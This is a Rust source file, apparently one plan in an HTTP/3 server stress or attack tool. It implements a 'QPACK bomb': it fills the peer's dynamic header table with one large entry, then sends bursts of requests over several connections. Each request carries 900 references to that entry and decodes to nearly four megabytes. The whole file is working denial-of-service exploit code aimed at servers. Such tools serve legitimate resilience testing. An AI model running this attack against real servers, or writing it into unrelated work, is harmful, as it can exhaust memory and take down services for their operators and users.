//! One large dynamic table entry with many references.

use crate::attack::{Expect, Plan, Victim};
use crate::http::{self, Method};

use super::{Crowd, crowd};

pub(super) const PLAN: Plan = Plan {
    name: "qpack-bomb",
    labels: &["A74"],
    summary: "an entry that fills the dynamic table, with 900 references from each request",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(qpack_bomb()),
};

fn qpack_bomb() -> Crowd {
    Crowd::new(4, |connection, progress, _| {
        for id in progress.requests(connection, BURST) {
            let bytes = http::frame(http::HEADERS, &bomb());
            for frame in http::stream_in_chunks(id, &bytes, true) {
                connection.push_bytes(frame);
            }
        }
    })
    .with_setup(|connection, progress| {
        crowd::preface(connection, progress);
        progress.push_encoder(connection, &inserts());
    })
}

/// Encodes instructions that set the capacity and insert one entry (RFC 9204 §4.3.1, §4.3.3).
fn inserts() -> Vec<u8> {
    let mut bytes = Vec::new();
    http::put_prefixed(&mut bytes, 0x20, 5, CAPACITY);
    http::put_prefixed(&mut bytes, 0x40, 5, 1);
    bytes.push(b'x');
    http::put_prefixed(&mut bytes, 0, 7, VALUE);
    bytes.resize(bytes.len() + VALUE, b'y');
    bytes
}

/// Encodes a section that requires one insertion and refers to it in every further field line.
fn bomb() -> Vec<u8> {
    let request = http::section(Method::Get, "/");
    // The Required Insert Count 1 is encoded as 2, and the Base is 1 (RFC 9204 §4.5.1).
    let mut section = vec![0x02, 0x00];
    section.extend_from_slice(&request[2..]);
    // Indexed field lines with relative index 0 of the dynamic table.
    section.resize(section.len() + REFERENCES, 0x80);
    section
}

/// Requests of one connection in one turn.
const BURST: u64 = 8;

/// The capacity that the peer permits by default.
const CAPACITY: usize = 4096;

/// The entry fills the table with a name of one byte and the overhead of 32.
const VALUE: usize = CAPACITY - 33;

/// References in one request, which would decode to almost four megabytes.
const REFERENCES: usize = 900;
